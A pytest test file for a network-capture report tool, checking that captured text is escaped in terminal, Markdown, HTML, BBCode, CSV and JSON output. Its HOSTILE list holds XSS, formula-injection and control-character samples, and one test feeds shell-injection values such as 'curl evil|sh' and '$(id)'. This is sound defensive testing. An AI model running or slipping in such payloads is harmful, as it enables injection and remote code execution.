"""What a report says, and that captured text stays text in every output."""

from __future__ import annotations

import html.parser
import json
import re
import time
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from msgspec import structs

from analysis import report, sureness, texts
from analysis.coverage import LogCoverage, LoggedHost
from analysis.evidence import Evidence
from analysis.known import Known, OwnValues
from analysis.model import Category, Party, Verdict
from analysis.occasions import covered, span
from analysis.pipeline import CaptureInfo, Result
from analysis.report import as_csv, as_json, bbcode, lists, markdown, terminal
from analysis.report import html as as_html
from analysis.report.aggregate import merged
from analysis.report.document import Bullets, Cell, Column, Commands, Data, Document, Heading, Paragraph, Table
from analysis.report.phrases import local_time
from analysis.report.private import private
from captures.model import Lookup, Source
from reporting import START, call, comparison, contact, damaged, evening, exchange, finding, known, result

HOSTILE = (
    "\x1b[31mred\x1b[0m\x07\x9b1m",
    "a\u202eb\u200bc\u2066d\ufeff",
    "a\r\nb\tc\x00d",
    "![x](http://evil.example/x.png)",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "[url=http://evil.example]x[/url][img]http://evil.example/x[/img]",
    "http://evil.example/ www.evil.example evil@evil.example <http://evil.example>",
    "@alice #7 alice/phonehome#7 :smile:",
    "```\n# heading\n```",
    "a|b|c",
    "`a``b`",
    "**b** _i_ ~~s~~ $x$ \\",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1)",
    "+1",
    "-1",
    "[bold red]rich[/bold red] :warning:",
    "&lt;b&gt; &#64;",
    "\ud800",
)

TEXT = st.characters(exclude_categories=[])
"""Also lone surrogates."""

CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")


def document(text: str) -> Document:
    """A document with the same text everywhere."""
    cells = (Cell(text), Cell(text, "alarm"))
    return Document(
        text,
        (
            Heading(text),
            Paragraph(text),
            Paragraph(text, "strong"),
            Bullets((text,)),
            Table((Column(text), Column(text, number=True)), (cells, cells)),
            Commands((text,)),
            Data(json.dumps({"x": text})),
        ),
    )


def first_screen(found: Result) -> list[str]:
    """The paragraphs before the first heading."""
    sentences = []
    for block in private(found).blocks:
        if not isinstance(block, Paragraph):
            break
        sentences.append(block.text)
    return sentences


def test_the_first_screen_is_the_answer() -> None:
    device, agent = (known().items[item].label for item in ("client.device_name", "client.user_agent"))
    assert [said.replace("\N{NO-BREAK SPACE}", " ") for said in first_screen(evening())] == [
        "In 2 hours, 1 app (Plex) made 5 calls outside. What for: 40 % for usage statistics, 20 % to look for updates, "
        "20 % to sign in, 20 % for a purpose that is not known. Called: Plex 4, tracker.alice-isp.example 1.",
        f"Sent, and not covered by what its sender says: {device} to Plex (usage statistics; undeclared); {agent} to "
        "tracker.alice-isp.example (unknown purpose; no-list, the sender is not known).",
        "1 call carried something of what you watch or own to analytics.plex.tv: length of the film. Plex lists length "
        "of the film as optional.",
        "In what could be read, no title, file name, or id, hash or picture address that names a title was found; your "
        "own titles were not searched for. phonehome known import lets them be searched for.",
        "1 of 4 recipients could not be read, among them metrics.plex.tv: what went there is not known, and may be "
        "anything. 1 place in the capture is damaged or could not be read.",
        "This report can speak for 4 of 6 conversations outside (66 %) and for 86 % of the bytes sent there. In what "
        "could be read, no film was played, so nothing can be said about playback. Of what makes products send, it "
        "covers: nothing; not covered: a start of the server or an app, a film played, a library scan, a whole day "
        "(timers).",
        "Is media.alice.example yours? It answers like a media server; if it is, say: phonehome known add --kind "
        "server media.alice.example",
    ]


def test_an_empty_capture_is_no_all_clear() -> None:
    assert first_screen(result())[:2] + first_screen(result())[3:4] == [
        "Nobody outside your own network was called in this capture.",
        "In what could be read, no data item was found that was sent to anybody outside.",
        "There was no recipient outside to look into; what bypassed the capture is not in it.",
    ]


def test_what_was_not_inspected_is_never_shown_as_nothing_sent() -> None:
    said = first_screen(result([call(contact("metrics.plex.tv"))]))
    assert said[1] == "No call to anybody outside could be read, so this report cannot say what was sent."
    assert said[3].startswith("1 of 1 recipients could not be read, among them metrics.plex.tv")


def test_a_declared_item_alone_is_said_to_be_covered() -> None:
    found = result([call(exchange("plex.tv"))], (), [comparison("media.duration", Verdict.DECLARED)])
    assert first_screen(found)[1] == ("In what could be read, nothing was found that the senders' lists do not cover.")


def test_a_title_that_was_sent_is_named_as_such() -> None:
    title = known().items["media.title"].label
    found = result([call(exchange("metadata.provider.plex.tv"))], [finding(0, "media.title", "Zorblax Uprising")])
    assert (
        first_screen(found)[3]
        == f"What names a title was sent: {title} to Plex; your own titles were not searched for. phonehome known "
        "import lets them be searched for."
    )


@pytest.mark.parametrize(("kind", "searched"), [("title", ""), ("file", ""), ("email", "not ")])
def test_that_own_titles_were_searched_for_is_said_of_titles_and_files_alone(kind: str, searched: str) -> None:
    own = OwnValues([Known(kind, "zorblax.uprising@example.org", 0)])
    found = result([call(exchange("plex.tv"))], own=own)
    hint = " phonehome known import lets them be searched for." if searched else ""
    assert first_screen(found)[2].endswith(f"your own titles were {searched}searched for.{hint}")


def test_a_title_that_stayed_at_home_was_not_sent() -> None:
    home = call(exchange("192.168.7.40"), Category.SERVER_API, party=Party.OWN, entity="")
    assert first_screen(result([home], [finding(0, "media.title", "Zorblax")]))[2].startswith(
        "In what could be read, no"
    )


def test_no_list_stands_on_the_first_screen_only_where_data_is_collected_for_its_own_sake() -> None:
    calls = [call(exchange("plex.tv"))]
    harmless = comparison("client.id", Verdict.NO_LIST, category=Category.UPDATE_CHECK, declared="")
    watched = comparison("client.id", Verdict.NO_LIST, category=Category.CRASH_REPORT, declared="")
    third = comparison(
        "client.id", Verdict.NO_LIST, category=Category.UPDATE_CHECK, recipient="other", entity="x.example"
    )
    shown = f"There is no list to hold against 1 kind of data that was sent: {known().items['client.id'].label}."
    assert first_screen(result(calls, (), [harmless]))[1] == shown
    for first in (watched, third):
        assert first_screen(result(calls, (), [first]))[1].startswith("Sent, and not covered by what its sender says:")


def test_what_could_not_be_read_is_listed_with_the_reason() -> None:
    found = result([call(contact("metrics.plex.tv", index=n)) for n in range(2)] + [call(damaged(index=2))])
    tables = [block for block in private(found).blocks if isinstance(block, Table)]
    unread = next(table for table in tables if table.columns[1].title == texts.REASON)
    assert [[cell.text for cell in row] for row in unread.rows] == [
        ["metrics.plex.tv", "client rejected the certificate", "2"],
        ["damaged place", "the record is cut off", "1"],
    ]


def test_visitors_and_name_look_ups_are_no_calls() -> None:
    visit = structs.replace(exchange("192.168.7.40", index=0), initiator="outside")
    asked = Lookup(Source(0, 1), START, "tv", None, None, "dns", "plex.tv", "A", (), "NOERROR", None)
    calls = [
        call(visit, Category.SERVER_API, party=Party.OWN, entity=""),
        call(asked, Category.NAME_LOOKUP, party=Party.UNKNOWN, entity=""),
    ]
    texts = [block.text for block in private(result(calls)).blocks if isinstance(block, Paragraph)]
    assert texts[0] == "Nobody outside your own network was called in this capture."
    assert "1 connection was opened from outside to your server; visitors are not counted as calls." in texts


def test_the_whole_report_in_a_terminal() -> None:
    text = terminal.render(private(evening()), width=100)
    assert [
        line
        for line in text.splitlines()
        if line[:1].isupper() and line.endswith(("called", "say", "product makes", "hold", "read", "about"))
    ] == [
        "Who was called",
        "What was sent, and what the lists say",
        "What the calls carry that every product makes",
        "What recipients showed that they already hold",
        "What could not be read",
        "What this capture can speak about",
    ]
    assert text.splitlines()[-2:] == [
        "  phonehome items alice-evening.flow",
        "  phonehome share alice-evening.flow -o report.md",
    ]
    assert max(map(len, text.splitlines())) <= 100
    assert "\x1b" not in text


@pytest.mark.parametrize("width", [20, 40, 59, 60, 80, 200])
def test_the_report_keeps_to_the_width_of_the_terminal(width: int) -> None:
    lines = terminal.render(private(evening()), width=width).splitlines()
    assert [line for line in lines if len(line) > width and not line.startswith("  phonehome")] == []


def test_colours_are_only_used_where_they_are_wanted() -> None:
    assert "\x1b[" in terminal.render(private(evening()), colour=True)
    stripped = re.sub(r"\x1b\[[0-9;]*m", "", terminal.render(private(evening()), colour=True))
    assert stripped.split() == terminal.render(private(evening())).split()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_terminal_gets_no_control_and_no_invisible_character(text: str) -> None:
    for colour in (False, True):
        shown = terminal.render(document(text), width=300, colour=colour)
        shown = re.sub(r"\x1b\[[0-9;]*m", "", shown) if colour else shown
        assert not re.search(
            r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]", shown
        )
    assert "[bold red]" not in text or "[bold red]rich" in shown


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_holds_no_markup_of_captured_text(text: str) -> None:
    shown = markdown.escape(text)
    assert "\n" not in shown
    outside = re.sub(r"`[^`]*`", "", shown)
    assert not re.search(r"[<>\[\]@#|*_~\\$&`]|://|\w\.\w", outside)
    assert "|" not in shown


def elements(page: str) -> set[str]:
    """Kinds of elements that a Markdown parser (CommonMark and tables) sees."""
    parsed = MarkdownIt("commonmark").enable("table").parse(page)
    return {token.type for block in parsed for token in (block, *(block.children or ()))}


@given(st.one_of(st.sampled_from(HOSTILE), st.text("`*_[]()<>!#|\\\\&;:/.@~$-+=1a \n\t\"'", max_size=60)))
def test_a_markdown_parser_sees_neither_links_nor_pictures_nor_tags(text: str) -> None:
    seen = elements(markdown.render(document(text)))
    assert not {kind for kind in seen if kind.startswith(("link", "image", "html"))}
    assert {"fence", "table_open", "bullet_list_open", "heading_open"} <= seen


def test_a_markdown_table_keeps_its_columns_whatever_the_cells_hold() -> None:
    for text in HOSTILE:
        table = document(text).blocks[4]
        lines = markdown.render(Document("x", (table,))).splitlines()[2:]
        assert [line.count("|") for line in lines] == [3, 3, 3, 3]


def long_report(rows: int) -> Document:
    columns = (Column("Verdict"), Column("Item"), Column("Recipient"), Column("Calls", number=True))
    table = Table(
        columns,
        tuple(
            (
                Cell(f"v{n % 3}", "alarm" if n % 3 else "plain"),
                Cell(f"item {n} of some length"),
                Cell(f"r{n % 40}.example"),
                Cell("1,000"),
            )
            for n in range(rows)
        ),
    )
    points = Bullets(tuple(f"point {n} of some length" for n in range(rows)))
    return Document("x", (Paragraph("The answer."), Heading("A"), table, points, Data('{"x": 1}')))


@pytest.mark.parametrize("forum", sorted(markdown.FORUMS))
@pytest.mark.parametrize("rows", [10, 1500, 20_000])
def test_a_post_fits_its_forum_and_keeps_every_table_whole(forum: str, rows: int) -> None:
    text = markdown.render(long_report(rows), forum)
    assert len(text) <= markdown.FORUMS[forum].most
    parsed = MarkdownIt("commonmark").enable("table").parse(text)
    cells = [sum(t.type in ("th_open", "td_open") for t in row) for row in table_rows(parsed)]
    assert set(cells) == {4}
    assert sum(t.type == "tr_open" for t in parsed) == len(cells)
    assert (texts.PUT_TOGETHER in text) is (rows > 10)
    assert "```json" in text


def table_rows(tokens: list[Token]) -> list[list[Token]]:
    rows: list[list[Token]] = []
    for token in tokens:
        if token.type == "tr_open":
            rows.append([])
        elif rows:
            rows[-1].append(token)
    return rows


def test_rows_are_put_together_and_none_is_cut() -> None:
    table = long_report(500).blocks[2]
    assert isinstance(table, Table)
    short = merged(table, 4, 6)
    assert [[cell.text for cell in row] for row in short.rows[:1]] == [
        [
            "v0",
            "item 0 of some length, item 3 of some length, item 6 of some length, item 9 of some length, item 12 of "
            "some length, item 15 of some length, 101-1000 more",
            "r0.example, r3.example, r6.example, r9.example, r12.example, r15.example, 21-100 more",
            "167,000",
        ]
    ]
    assert [row[0].tone for row in short.rows] == ["plain", "alarm", "alarm"]
    assert sum(int(row[3].text.replace(",", "")) for row in short.rows) == 500_000
    assert merged(table, 500) is table
    assert "item 297 of some length, 21-100 more" in merged(table, 4).rows[0][1].text


def test_what_is_long_is_folded_where_a_forum_can() -> None:
    found = long_report(20)
    assert "<details>" not in markdown.render(found) + markdown.render(found, "reddit")
    assert markdown.render(found, "github").count("<details><summary>") == 2
    assert markdown.render(found, "lemmy").count("::: spoiler ") == 2
    # An empty line on both sides, else the table within is text.
    folded = MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown.render(found, "discourse"))
    assert [t.type for t in folded if t.type in ("html_block", "table_open")] == [
        "html_block",
        "table_open",
        "html_block",
        "html_block",
        "html_block",
    ]


def test_the_form_for_programs_goes_last() -> None:
    found = Document("x", (Paragraph("The answer."), Data(json.dumps("x" * 50_000))))
    assert markdown.render(found, "github").count("x" * 50_000) == 1
    assert texts.NO_DATA_IN_POST.split()[0] in markdown.render(found, "reddit")
    assert "xxx" not in markdown.render(found, "reddit")


def test_a_markdown_fence_is_longer_than_any_in_its_content() -> None:
    shown = markdown.render(Document("x", (Data('"```` x"'),)))
    assert shown.splitlines()[2] == "`````json"


@pytest.mark.parametrize("text", HOSTILE)
def test_bbcode_holds_no_tag_and_no_link_of_captured_text(text: str) -> None:
    assert not re.search(r"[\[\]@\n]|://|www\.", bbcode.escape(text))


class Tags(html.parser.HTMLParser):
    """Elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (
            "not seen here: phonehome items --verdict not-seen FILE lists <it>.",
            'not seen here: <code class="short">phonehome</code> <code class="short">items</code> '
            '<code class="short">--verdict</code> <code class="short">not-seen</code> <code class="short">FILE</code> '
            "lists &lt;it&gt;.",
        ),
        (
            "phonehome trust add plex",
            '<code class="short">phonehome</code> <code class="short">trust</code> <code class="short">add</code> plex',
        ),
        ("(`gateway up` does)", '(<code class="short">gateway</code> <code class="short">up</code> does)'),
        ("While phonehome looks into it", "While phonehome looks into it"),
        ("`<b>` and `a\u202eb`", "`&lt;b&gt;` and `a\\u202eb`"),
        ("4 % of 60 s, 3.4 kB, 5 sheep", "4\xa0% of 60\xa0s, 3.4\xa0kB, 5 sheep"),
    ],
)
def test_a_sentence_on_a_page_keeps_a_command_and_a_number_together(said: str, shown: str) -> None:
    assert as_html.prose(said) == shown


@pytest.mark.parametrize("text", HOSTILE)
def test_an_html_page_has_the_same_elements_whatever_was_captured(text: str) -> None:
    assert Tags(as_html.render(document(text))).seen == Tags(as_html.render(document("harmless"))).seen


def test_an_html_page_loads_nothing() -> None:
    page = as_html.render(private(evening(), page=True))
    assert "default-src 'none'" in page
    assert "unsafe" not in page
    assert not re.search(r"""\s(?:src|href)\s*=(?!"#)|url\((?!#)|\sstyle=|\son[a-z]+=""", page)


@pytest.mark.parametrize("text", [text for text in HOSTILE if text[0] in "=+-@"])
def test_a_cell_of_csv_is_no_formula(text: str) -> None:
    rows = as_csv.render(document(text)).splitlines()
    assert all(cell[0] not in "=+-@" for row in rows for cell in [row.lstrip('"')])


@settings(deadline=None)  # the first page loads the templates
@given(st.text(max_size=200))
def test_no_text_breaks_any_output(text: str) -> None:
    for name in report.FORMATS:
        assert report.renderer(name).render(document(text)).endswith("\n")


def test_the_json_report_has_the_keys_of_the_contract() -> None:
    made = json.loads(as_json.render(evening()))
    assert made["schema"] == "phonehome/inspect/1"
    assert sorted(made["tool"]) == ["packs", "version"]
    assert made["captures"] == [
        {
            "name": "alice-evening.flow",
            "sha256": "ab" * 32,
            "format": "flow",
            "first": START,
            "last": START + 7200,
            "observations": 7,
        }
    ]
    assert made["calls"][0] == {
        "n": 0,
        "capture": 0,
        "index": 0,
        "part": 0,
        "captures": [0],
        "kind": "exchange",
        "initiator": "inside",
        "time": START,
        "device": "192.168.7.23",
        "host": "analytics.plex.tv",
        "port": 443,
        "method": "POST",
        "path": "/collect/event",
        "status": 200,
        "reason": None,
        "bytes_out": 800,
        "bytes_in": 120,
        "bytes_source": "http",
        "end": None,
        "protocol": None,
        "answers": None,
        "name_source": None,
        "ja4": None,
        "ech": None,
        "product": "plex",
        "service": "plex",
        "attribution": "product-header",
        "role": "app",
        "category": "usage-statistics",
        "rule": "",
        "party": "vendor",
        "entity": "Plex",
        "answered_by": "",
    }
    assert {key: made["calls"][5][key] for key in ("kind", "host", "port", "bytes_out", "time", "reason")} == {
        "kind": "unreadable",
        "host": None,
        "port": None,
        "bytes_out": None,
        "time": None,
        "reason": "the record is cut off",
    }
    assert {frozenset(one) for one in made["calls"]} == {frozenset(made["calls"][0])}
    assert made["findings"][0] == {
        "call": 0,
        "direction": "sent",
        "item": "media.duration",
        "at": "body.duration",
        "value": "5460",
        "encodings": [],
        "source": "rule",
        "evidence": None,
        "sure": None,
    }
    assert made["comparisons"][0]["verdict"] == "undeclared"
    assert made["coverage"]["recipients_unreadable"] == 1


def test_the_json_report_survives_a_lone_surrogate() -> None:
    found = result([call(exchange("plex.tv"))], [finding(0, "media.title", "\ud800")])
    assert json.loads(as_json.render(found))["findings"][0]["value"] == "\ud800"


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(TEXT),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(TEXT), inner),
    )
)
def test_json_is_written_as_the_standard_library_does(value: object) -> None:
    assert as_json.dump(value) == json.dumps(value, indent=1) + "\n"


def test_calls_are_listed_by_time_and_keep_their_number() -> None:
    late, early = exchange("plex.tv", "/late", index=5), exchange("plex.tv", "/early", index=1)
    table = lists.calls_of(result([call(late), call(early)])).blocks[0]
    assert isinstance(table, Table)
    assert [(row[0].text, row[4].text) for row in table.rows] == [
        ("1", "POST plex.tv/early"),
        ("5", "POST plex.tv/late"),
    ]


def test_who_answers_for_another_is_named_where_the_recipient_is() -> None:
    behind = structs.replace(call(exchange("metrics.plex.tv")), answered_by="Amazon")
    unknown = call(exchange("t.shop.example", index=1), party=Party.UNKNOWN, entity="shop.example")
    found = result([behind, unknown])
    table = lists.calls_of(found).blocks[0]
    assert isinstance(table, Table)
    assert [row[-1].text for row in table.rows] == ["Plex, answered by Amazon", "shop.example"]
    shown = terminal.render(private(found), width=300, colour=False, cut=False)
    assert "metrics.plex.tv, answered by Amazon" in shown
    assert "Called: Plex 1, t.shop.example 1." in shown


def test_items_are_listed_with_place_and_value() -> None:
    table = lists.items_of(evening()).blocks[0]
    assert isinstance(table, Table)
    assert [cell.text for cell in table.rows[0]] == [
        "0",
        known().items["media.duration"].label,
        "5460",
        "sent",
        "Plex",
        "body.duration",
    ]


def test_what_was_not_seen_is_one_line_in_the_report_and_a_list_of_its_own() -> None:
    texts = [block.text for block in private(evening()).blocks if isinstance(block, Paragraph)]
    assert "1 more item is declared and was not seen here: phonehome items --verdict not-seen FILE lists it." in texts
    table = lists.verdicts_of(evening(), "not-seen").blocks[0]
    assert isinstance(table, Table)
    assert table.rows[0][-1].text == "No occasion for it in this capture."


def test_an_occasion_is_covered_only_by_what_shows_it() -> None:
    assert covered(evening()) == frozenset()
    film = call(exchange("192.168.7.40"), Category.PLAYBACK_REPORT, party=Party.OWN, entity="")
    assert covered(result([film])) == {"film"}
    assert covered(result(hours=24)) == {"24-hours"}
    assert covered(result(hours=23.9)) == frozenset()


def test_a_rule_that_is_tied_to_an_occasion_shows_it() -> None:
    rules = [rule for rule in known().rules.values() if rule.when == "start"]
    seen = structs.replace(call(exchange("plex.tv")), rule=rules[0].id)
    assert covered(result([seen])) == {"restart"}


def test_time_between_two_captures_is_not_covered() -> None:
    def info(first: float, last: float) -> CaptureInfo:
        return CaptureInfo("x", "", "flow", first, last, 1, ())

    found = replace(result(), captures=(info(0, 100), info(50, 150), info(1000, 1100), info(1010, 1020)))
    assert span(found) == 250


def test_every_host_that_may_be_the_user_s_own_is_asked_about() -> None:
    asks = Evidence(asks=frozenset({"b.example", "a.example"}))
    said = first_screen(result(evidence=asks))[-2:]
    assert [sentence.partition(" yours")[0] for sentence in said] == ["Is a.example", "Is b.example"]


def test_captured_text_of_any_length_is_cut_and_our_own_is_not() -> None:
    calls = [call(exchange("a" * 10_000 + ".example", "/" + "p" * 10_000), party=Party.UNKNOWN, entity="")]
    compared = [comparison("client.id", Verdict.UNDECLARED, entity="b" * 10_000, reason="why " * 500)]
    found = result(calls, [finding(0, "client.id", "v" * 10_000)], compared)
    for shown in (private(found), lists.calls_of(found), lists.items_of(found)):
        assert not re.search(r"[abpv]{501}", markdown.render(shown))
    assert "why " * 499 in markdown.render(private(found))


def test_a_command_to_type_holds_no_character_that_a_shell_understands() -> None:
    found = result(evidence=Evidence(asks=frozenset({"x.example;curl evil|sh", "--help", "$(id).example"})))
    info = replace(found.captures[0], name="-rf *.flow; rm x")
    document = private(replace(found, captures=(info,)))
    said = [block.text for block in document.blocks if isinstance(block, Paragraph) and "--kind server" in block.text]
    assert [sentence.rpartition("--kind server ")[2] for sentence in said] == ["HOST", "HOST", "HOST"]
    assert document.blocks[-1] == Commands(("phonehome items FILE", "phonehome share FILE -o report.md"))


def test_a_list_has_one_line_a_row_whatever_the_width() -> None:
    long = exchange("plex.tv", "/" + "p" * 300)
    document = lists.calls_of(result([call(long)]))
    piped, shown = terminal.render(document, width=60), terminal.render(document, width=60, cut=True)
    assert [len(text.splitlines()) for text in (piped, shown)] == [3, 3]
    assert "p" * 300 in piped
    assert max(len(line) for line in shown.splitlines()) <= 60


def test_own_titles_are_listed_with_how_sure_it_is_that_they_are_meant() -> None:
    title = known().items["media.title"].label
    found = result(
        [call(exchange("plex.tv")), call(exchange("192.168.7.40"), party=Party.OWN, entity="")],
        [
            finding(0, "media.title", "Zorblax", source="known", evidence="text"),
            finding(0, "media.title", "The Zorblax Uprising", source="known", evidence="title-field"),
            finding(1, "media.title", "The Zorblax Uprising", source="known", evidence="canary"),
        ],
    )
    blocks = private(found).blocks
    place = next(n for n, b in enumerate(blocks) if isinstance(b, Heading) and b.text.startswith("Your own titles"))
    table = blocks[place + 1]
    assert isinstance(table, Table)
    assert [[cell.text for cell in row] for row in table.rows] == [
        ["the exact title, in a field named for titles", "certain", title, "Plex", "1"],
        ["the title within a longer text", "possible: look for yourself", title, "Plex", "1"],
    ]
    assert set(texts.EVIDENCE) == set(sureness.EVIDENCE)


def test_what_the_log_tells_stands_on_the_first_screen_and_in_a_table() -> None:
    missed = LoggedHost("sentry.example", "plex", 5, 2, "partly", "QUIC", ("/api/1/envelope/",))
    logs = LogCoverage(("s.log",), 9, 6, 2, (missed,), 1, -2, ("s.log: only its first 9 calls were read",))
    found = replace(result([call(exchange("plex.tv"))]), logs=logs)
    assert first_screen(found)[5] == (
        "The server's own log tells of 9 calls to 2 hosts outside; 3 of them could not be read or are not in this "
        "capture: sentry.example."
    )
    blocks = private(found).blocks
    place = next(n for n, b in enumerate(blocks) if isinstance(b, Heading) and b.text.startswith("What the server's"))
    table, points = blocks[place + 2 : place + 4]
    assert isinstance(table, Table)
    assert [cell.text for cell in table.rows[0]] == [
        "sentry.example",
        "5",
        "2",
        "fewer calls are in the capture than the log tells of (QUIC)",
        "/api/1/envelope/",
    ]
    assert points == Bullets(
        (
            "The times of the log were moved by -2 hours, as calls that stand in both show.",
            "1 call of the log is outside the time of the capture.",
            "s.log: only its first 9 calls were read",
        )
    )
    whole = replace(logs, missed=(), seen=9)
    assert first_screen(replace(found, logs=whole))[5].endswith("and all of them are in this capture.")
    assert json.loads(as_json.render(found))["coverage"]["log"]["missed"][0]["verdict"] == "partly"


def test_a_time_is_told_in_the_local_zone_with_its_offset_where_it_is_asked_for(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    try:
        with monkeypatch.context() as patch:
            patch.setenv("TZ", "XXT-05:30")
            time.tzset()
            assert local_time(0.0) == "1970-01-01 05:30:00+0530"
            assert local_time(0.0, zone=False) == "1970-01-01 05:30:00"
    finally:
        time.tzset()
    assert [local_time(None), local_time(1e300)] == ["", "1e+300"]


@pytest.mark.parametrize(
    ("space", "shown"),
    [(" ", "seventeen letters 71\n% \\ue000\n"), ("\N{NO-BREAK SPACE}", "seventeen letters\n71 % \\ue000\n")],
)
def test_a_number_and_its_unit_stay_on_one_line_of_a_terminal(space: str, shown: str) -> None:
    document = Document("x", (Paragraph(f"seventeen letters 71{space}% \ue000"),))
    assert terminal.render(document, width=20) == f"x\n{shown}"
